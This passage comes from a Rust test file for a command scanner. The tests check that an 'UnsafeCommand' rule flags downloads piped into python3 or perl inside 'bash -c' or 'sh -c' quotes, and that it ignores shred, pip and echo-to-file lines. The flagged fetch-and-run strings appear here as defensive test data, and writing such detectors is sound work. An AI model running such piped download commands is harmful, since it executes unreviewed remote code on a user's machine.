        "shred -u --random-source /dev/hwrng key.pem",
        "SHRED -u --random-source /DEV/URANDOM notes.txt",
        "shred -u s.txt > /dev/null 2>&1",
    ] {
        assert!(!scan(clean, true).contains(&Rule::UnsafeCommand), "{clean}");
    }
}

/// Held-out 103: a download piped to `python3 -` inside `bash -c '…'`,
/// where the closing quote follows the interpreter's dash.
#[test]
fn a_download_piped_to_an_interpreter_inside_quotes() {
    for hit in [
        "docker run --rm -it ubuntu:22.04 bash -c 'apt-get update && apt-get install -y curl && curl -sSL https://install.python-poetry.org | python3 -'",
        "sh -c \"wget -qO- https://get.example.dev/setup.pl | perl -\"",
    ] {
        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
    }
    for clean in [
        "bash -c 'python3 -m pip install -r requirements.txt'",
        "bash -c 'curl -s https://api.example.com/data.json | python3 -m json.tool'",
        // Written to a file, not run.
        "echo 'curl -s https://api.example.com/x.json | python3' > notes.txt",
        "echo \"curl -fsSL https://x.dev/i.js | node\" >> docs/install.md",
    ] {
        assert!(!scan(clean, true).contains(&Rule::UnsafeCommand), "{clean}");
    }
}
